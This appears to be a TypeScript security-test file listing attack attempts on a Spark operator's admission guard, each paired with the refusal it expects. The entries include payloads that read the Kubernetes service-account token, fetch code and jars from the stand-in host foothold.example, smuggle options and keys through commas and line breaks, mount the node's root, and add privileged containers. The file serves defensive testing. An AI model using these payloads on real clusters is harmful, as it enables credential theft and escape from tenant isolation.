import { ApiAttack, attacksOf, guard } from './attack';
import { ApplicationChange, submit } from './bodies';

/** An application that the guard refuses for one field, given as the message names it. */
function guarded(tries: string, field: string, change: ApplicationChange): Omit<ApiAttack, 'identity'> {
  return { tries, call: (scene) => submit(scene, change), ...guard(field), harmless: (scene) => submit(scene) };
}

/** A field of the configuration. */
function configured(tries: string, key: string, value: string): Omit<ApiAttack, 'identity'> {
  return guarded(tries, `spec.sparkConf["${key}"]`, { sparkConf: { [key]: value } });
}

function accepted(tries: string, limit: string, change: ApplicationChange): Omit<ApiAttack, 'identity'> {
  return { tries, call: (scene) => submit(scene, change), limit };
}

const TOKEN = 'file:///var/run/secrets/kubernetes.io/serviceaccount/token';
const extra = { name: 'extra', image: 'docker.io/apache/spark:4.0.4' };

/** A submitter by what it writes into an application of its own team. */
export const SUBMITTERS_APPLICATIONS = attacksOf('submitter', [
  // What spark-submit reads in the controller's pod, with the controller's identity.
  guarded("have the controller's token sent to the driver, as the main file", 'spec.mainApplicationFile', {
    spec: { mainApplicationFile: TOKEN },
  }),
  guarded('pass an option to spark-submit in the place of the main file', 'spec.mainApplicationFile', {
    spec: { mainApplicationFile: '--conf=spark.kubernetes.namespace=kube-system' },
  }),
  {
    tries: 'leave the main file away, so that the arguments become options of spark-submit',
    call: (scene) =>
      submit(scene, {
        spec: { mainApplicationFile: undefined, arguments: ['--proxy-user', 'hdfs', 'local:///tmp/evil.py'] },
      }),
    refusal: { by: 'API validation', status: 422, words: 'spec.mainApplicationFile' },
    control: { status: 422, words: 'spec.mainApplicationFile' },
    harmless: (scene) => submit(scene),
  },
  guarded('have spark-submit fetch the main file from a server of its own', 'spec.mainApplicationFile', {
    spec: { mainApplicationFile: 'http://foothold.example/evil.py' },
  }),
  guarded('hide a second file behind a comma', 'spec.mainApplicationFile', {
    spec: { mainApplicationFile: `local:///opt/app/job.py,${TOKEN}` },
  }),
  guarded('start a shell of Spark, which reads the arguments as options of spark-submit', 'spec.mainClass', {
    spec: { mainClass: 'org.apache.spark.repl.Main', arguments: ['--conf', 'spark.master=local'] },
  }),
  guarded("have the controller's token sent along with the files of the application", 'spec.deps.files', {
    spec: { deps: { files: [TOKEN] } },
  }),
  guarded("put classes of its own on spark-submit's class path", 'spec.deps.jars', {
    spec: { deps: { jars: ['http://foothold.example/evil.jar'] } },
  }),
  guarded('have spark-submit download packages, whose classes it loads', 'spec.deps.packages', {
    spec: { deps: { packages: ['com.example:evil:1.0'] } },
  }),
  guarded('have spark-submit ask a repository of its own for packages', 'spec.deps.repositories', {
    spec: { deps: { repositories: ['https://foothold.example/maven'] } },
  }),
  guarded('have spark-submit act as another user of the file system', 'spec.proxyUser', {
    spec: { proxyUser: 'hdfs' },
  }),
  guarded("run the driver in the controller's pod", 'spec.mode', { spec: { mode: 'client' } }),

  // Configuration.
  configured('start its pods in the namespace of another team', 'spark.kubernetes.namespace', 'billing'),
  configured(
    'send spark-submit to another API server, with the token of the controller',
    'spark.master',
    'k8s://https://foothold.example',
  ),
  configured(
    'replace the hardened pod template',
    'spark.kubernetes.driver.podTemplateFile',
    'http://foothold.example/pod.yaml',
  ),
  configured(
    'replace the image that the application names',
    'spark.kubernetes.container.image',
    'registry.example/evil:1',
  ),
  configured(
    "have spark-submit read a token of the controller's pod for its requests",
    'spark.kubernetes.authenticate.submission.oauthTokenFile',
    '/etc/token',
  ),
  configured(
    'have spark-submit load a class that shapes pods',
    'spark.kubernetes.driver.pod.featureSteps',
    'com.example.Evil',
  ),
  configured(
    'mount a directory of the node by configuration',
    'spark.kubernetes.driver.volumes.hostPath.root.mount.path',
    '/node',
  ),
  configured('mount a secret by configuration', 'spark.kubernetes.driver.secrets.bystander', '/secrets'),
  configured(
    'give executors the account of the driver',
    'spark.kubernetes.authenticate.executor.serviceAccountName',
    'spark-driver',
  ),
  configured(
    'have spark-submit upload files with the identity of the operator',
    'spark.kubernetes.file.upload.path',
    's3a://theirs/',
  ),
  configured(
    'have Ivy read settings from a server of its own',
    'spark.jars.ivySettings',
    'http://foothold.example/ivy.xml',
  ),
  configured(
    'name packages by configuration, past the list of dependencies',
    'spark.jars.packages',
    'com.example:evil:1.0',
  ),
  configured('write into a folder of another team in the controller', 'spark.jars.ivy', '/tmp/.ivy2/other/theirs'),
  configured('run the driver in the controller by configuration', 'spark.submit.deployMode', 'client'),
  configured(
    'have spark-submit load a file system of its own',
    'spark.hadoop.fs.foo.impl',
    'com.example.EvilFileSystem',
  ),
  configured('hide a key behind a blank', ' spark.kubernetes.namespace', 'billing'),
  guarded('hide a second key behind a line break', 'spec.sparkConf["spark.app.name', {
    sparkConf: { 'spark.app.name\nspark.master': 'local' },
  }),
  guarded('have spark-submit read credentials from a file of the controller', 'spec.hadoopConf', {
    spec: { hadoopConf: { 'hadoop.security.credential.provider.path': 'localjceks://file/tmp/keys' } },
  }),

  // Identities and secrets.
  guarded(
    "run its driver under the account of executors, or any other of the namespace's",
    'spec.driver.serviceAccount',
    {
      driver: { serviceAccount: 'default' },
    },
  ),
  guarded('run executors under the account of drivers', 'spec.executor.serviceAccount', {
    executor: { serviceAccount: 'spark-driver' },
  }),
  guarded('name another account in the template alone', 'spec.driver.template.spec.serviceAccountName', {
    driverPod: { serviceAccountName: 'default' },
  }),
  guarded('have the token mounted in executors', 'spec.executor.template.spec.automountServiceAccountToken', {
    executorPod: { automountServiceAccountToken: true },
  }),
  guarded("mount another application's secret", 'spec.driver.secrets', {
    driver: { secrets: [{ name: 'bystander', path: '/secrets', secretType: 'Generic' }] },
  }),
  guarded("mount another application's secret as a volume of the template", 'spec.driver.template.spec.volumes', {
    driverVolumes: [{ name: 'theirs', secret: { secretName: 'bystander' } }],
  }),
  guarded("read another application's secret into a variable", 'spec.driver.template.spec.containers', {
    driverContainer: { env: [{ name: 'KEY', valueFrom: { secretKeyRef: { name: 'bystander', key: 'key' } } }] },
  }),
  guarded("read another application's secret into variables as a whole", 'spec.driver.template.spec.containers', {
    driverContainer: { envFrom: [{ secretRef: { name: 'bystander' } }] },
  }),
  guarded("pull images with another application's password", 'spec.imagePullSecrets', {
    spec: { imagePullSecrets: ['bystander'] },
  }),

  // Pods.
  guarded("mount the node's root directory in its driver", 'spec.driver.template.spec.volumes', {
    driverVolumes: [{ name: 'node', hostPath: { path: '/' } }],
  }),
  guarded("mount the node's root directory by the older field", 'spec.volumes', {
    spec: { volumes: [{ name: 'node', hostPath: { path: '/' } }] },
  }),
  guarded('add a privileged sidecar', 'spec.driver.sidecars', {
    driver: { sidecars: [{ ...extra, securityContext: { privileged: true } }] },
  }),
  guarded('add an init container that runs as root', 'spec.driver.template.spec.initContainers', {
    driverPod: {
      initContainers: [
        {
          ...extra,
          securityContext: {
            allowPrivilegeEscalation: false,
            capabilities: { drop: ['ALL'] },
            readOnlyRootFilesystem: true,
            runAsUser: 0,
          },
        },
      ],
    },
  }),
  guarded("run its driver in the node's network", 'spec.driver.hostNetwork', { driver: { hostNetwork: true } }),
  guarded("see the node's processes from its driver", 'spec.driver.template.spec.hostPID', {
    driverPod: { hostPID: true },
  }),
  guarded('make the root file system of its driver writable', 'spec.driver.template.spec.containers', {
    driverContainer: {
      securityContext: {
        allowPrivilegeEscalation: false,
        capabilities: { drop: ['ALL'] },
        readOnlyRootFilesystem: false,
      },
    },
  }),
  guarded('replace the security context of the template by the older field', 'spec.driver.securityContext', {
    driver: { securityContext: { privileged: true } },
  }),
  guarded('hide the Spark container behind a name that is not its own', 'spec.driver.template.spec.containers', {
    driverContainer: { name: 'spark-kubernetes-drivers' },
  }),
  guarded('run an image whose tag may mean another one tomorrow', 'spec.image', {
    spec: { image: 'docker.io/apache/spark:latest' },
  }),
  guarded('displace pods of others by a priority class', 'spec.driver.priorityClassName', {
    driver: { priorityClassName: 'system-node-critical' },
  }),
  guarded('have another scheduler place its pods', 'spec.driver.schedulerName', { driver: { schedulerName: 'mine' } }),
  guarded('go to the node of another team by its name', 'spec.driver.template.spec.nodeName', {
    driverPod: { nodeName: 'spark-node' },
  }),
  guarded('bear the taints of nodes that are kept for others', 'spec.driver.tolerations', {
    driver: { tolerations: [{ operator: 'Exists' }] },
  }),
  guarded('have other names resolve to its own address, in its pods', 'spec.driver.hostAliases', {
    driver: { hostAliases: [{ ip: '10.244.0.99', hostnames: ['kubernetes.default.svc'] }] },
  }),
  guarded('run a hook of the kubelet in its driver', 'spec.driver.lifecycle', {
    driver: { lifecycle: { postStart: { exec: { command: ['sh', '-c', 'id'] } } } },
  }),
  guarded('have the operator open a port on every node for its user interface', 'spec.sparkUIOptions.serviceType', {
    spec: { sparkUIOptions: { serviceType: 'NodePort' } },
  }),
  guarded('overload the guard with a list that is too long to be read', 'spec.driver with its environment', {
    driver: { env: Array.from({ length: 2000 }, (_, index) => ({ name: `V${index}`, value: '' })) },
  }),

  {
    tries: 'name an application so that the operator fails to make its service, again and again',
    call: (scene) => submit(scene, { metadata: { name: '1st.foothold' } }),
    refusal: { by: 'operator webhook', status: 403, words: 'invalid SparkApplication name "1st.foothold"' },
    harmless: (scene) => submit(scene),
    only: 'quickstart',
  },

  // What an application may say.
  accepted(
    'run code from any server that has a certificate',
    'https is an allowed scheme, as for artifacts that are built elsewhere; the driver fetches it, and has its own rights alone',
    { spec: { mainApplicationFile: 'https://foothold.example/evil.py' } },
  ),
  accepted('ask for more executors than its team may have', 'the quota refuses the pods, not the application', {
    executor: { instances: 100_000 },
  }),
  accepted('have its application started again for ever', 'its pods count against the quota of its team alone', {
    spec: { restartPolicy: { type: 'Always', onFailureRetryInterval: 1, onSubmissionFailureRetryInterval: 1 } },
  }),
  accepted(
    "pass its pods off as another application's, by their labels",
    'labels mean nothing to RBAC; one namespace for each level of trust',
    {
      driver: { labels: { 'sparkoperator.k8s.io/app-name': 'bystander' } },
    },
  ),
]);
